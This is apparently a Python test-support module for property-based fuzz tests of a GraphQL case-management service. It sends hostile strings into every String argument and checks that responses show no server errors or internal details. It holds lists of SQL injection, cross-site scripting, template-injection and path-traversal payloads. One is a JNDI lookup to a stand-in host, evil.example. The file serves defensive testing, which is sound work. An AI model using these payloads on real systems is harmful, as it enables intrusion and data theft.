"""Hostile input for the fuzz tests: a case every audience can reach, strings meant to break things, and
what a response must never show.

Strings are huge (past the text limits, past the body limit), full of control characters, SQL,
HTML and script, template and path tricks, or plain random text. Every String argument of a
generated operation is drawn from them.
"""

from __future__ import annotations

from tests.support.cases import known_case

import uuid
from dataclasses import dataclass
from datetime import date, timezone
from typing import Any

import graphql
from hypothesis import strategies as st
from hypothesis_graphql import nodes

from evenwijdig.bootstrap import Contexts
from services.staff_directory.api import Role
from services.shared_agreements.application import Child, Parent
from tests.reliability.scene import COUNSELLOR, LOMAN, error_codes, opened_case

SQL = ["'; DROP TABLE users; --", "' OR '1'='1", "1; SELECT pg_sleep(10) --", "\" UNION SELECT password FROM accounts --",
       "Robert'); DELETE FROM staff;--", "'||(SELECT version())||'"]
MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "\"><svg/onload=alert(1)>",
          "</textarea><iframe src=javascript:alert(1)>", "]]><!--", "{{7*7}}${7*7}", "${jndi:ldap://evil.example/x}"]
TRICKS = ["../../../../etc/passwd", "C:\\Windows\\win.ini", "%00%0d%0a", "\u202eevil\u202c", "\ufeff", "𝕳𝖆𝖈𝖐",
          "null", "NaN", "-1", " ", ""]
#: Past the 1,000 and 10,000 character text limits, and (300,000) past the 256 KiB body limit.
HUGE = [1_001, 10_001, 100_000, 300_000]

control = st.text(alphabet=st.characters(max_codepoint=0x1F), min_size=1, max_size=40)
hostile_text = st.one_of(
    st.sampled_from(SQL + MARKUP + TRICKS),
    control,
    st.tuples(st.sampled_from(SQL + MARKUP), control).map("".join),
    st.sampled_from(HUGE).map(lambda n: "\u0000<x>'" * (n // 5)),
    st.text(max_size=100),
)

#: Words that would mean an internal detail reached the client (none appears in the hostile strings).
INTERNALS = ("traceback", "psycopg", "sqlite", "eventsourcing", "strawberry", "site-packages", ".py\"", "/work/",
             "stored_events", "notification_id", "originator_", "_events", "_access_log", "idempotency_",
             "relation \"", "syntax error at or near", "integrityerror", "operationalerror")

#: Each audience and the user who sends its operations.
SENDERS = {Role.COUNSELLOR: COUNSELLOR, Role.CHILD_COUNSELLOR: "reliability-child-counsellor",
           Role.COORDINATOR: "reliability-coordinator", Role.MEDIATOR: "reliability-mediator",
           Role.AUDITOR: "reliability-auditor",
           Role.ADMIN: "reliability-admin"}


@dataclass
class HostileScene:
    """One case: side A opened by its counsellor, the shared case registered, every other role assigned."""

    contexts: Contexts
    case: uuid.UUID

    @classmethod
    def set_up(cls, contexts: Contexts) -> HostileScene:
        case = opened_case(contexts)
        directory = contexts.directory
        for role, user in SENDERS.items():
            if role is not Role.COUNSELLOR:
                directory.register_staff(user, user.replace("-", " ").title(), [role], actor="test-setup")
        known_case(directory, case)
        directory.assign_coordinator(case, SENDERS[Role.COORDINATOR], "test-setup")
        known_case(directory, case)
        directory.assign_child_counsellor(case, SENDERS[Role.CHILD_COUNSELLOR], "test-setup")
        known_case(directory, case)
        directory.assign_mediator(case, SENDERS[Role.MEDIATOR], "test-setup")
        contexts.shared.register_case(parent_a=Parent("Sanne", True), parent_b=Parent("Mark", True),
                                      children=[Child("Noor", date(2014, 5, 3))], trajectory_type=LOMAN,
                                      actor=SENDERS[Role.COORDINATOR], case_id=case)
        return cls(contexts, case)

    def scalars(self, sdl: str) -> dict[str, st.SearchStrategy[Any]]:
        every = {
            "String": hostile_text.map(nodes.String),
            "UUID": st.one_of(st.just(str(self.case)), st.uuids().map(str), hostile_text).map(nodes.String),
            "Date": st.one_of(st.dates().map(date.isoformat), hostile_text).map(nodes.String),
            "DateTime": st.one_of(st.datetimes(timezones=st.just(timezone.utc)).map(lambda d: d.isoformat()),
                                  hostile_text).map(nodes.String),
            "Time": st.one_of(st.times().map(lambda t: t.isoformat()), hostile_text).map(nodes.String),
            "JSON": hostile_text.map(nodes.String),
        }
        return {name: strategy for name, strategy in every.items() if name == "String" or f"scalar {name}" in sdl}


def problems_in(response: Any, query: str, before: dict[str, int], after: dict[str, int]) -> list[str]:
    """What is wrong with one answer to hostile input: a server error, an internal detail, an internal error,
    or a store changed by an operation that was refused."""
    label = " ".join(query.split())[:200]
    found = []
    if response.status_code >= 500:
        found.append(f"status {response.status_code}: {label}")
    text, sent = response.text.lower(), query.lower()
    found += [f"shows {word!r}: {label}" for word in INTERNALS if word in text and word not in sent]
    body = _json(response)
    if "INTERNAL" in error_codes(body):
        found.append(f"internal error {response.text[:200]}: {label}")
    if response.status_code == 413 and error_codes(body) != {"INVALID"}:
        found.append(f"413 without INVALID: {label}")
    # Only for one field: a failing non-null field nulls all the data, though the fields before it ran.
    if body.get("errors") and body.get("data") is None and _root_fields(query) == 1 and after != before:
        found.append(f"refused, yet a store changed ({before} -> {after}): {label}")
    return found


def _root_fields(query: str) -> int | None:
    try:
        document = graphql.parse(query)
    except graphql.GraphQLError:
        return None
    operations = [d for d in document.definitions if isinstance(d, graphql.OperationDefinitionNode)]
    return len(operations[0].selection_set.selections) if len(operations) == 1 else None


def _json(response: Any) -> dict[str, Any]:
    try:
        body = response.json()
    except ValueError:
        return {"errors": [{"extensions": {"code": "NOT_JSON"}}]}
    return body if isinstance(body, dict) else {}


def root_fields(sdl: str) -> list[str]:
    parsed = graphql.build_schema(sdl)
    return sorted(name for root in (parsed.query_type, parsed.mutation_type) if root for name in root.fields)

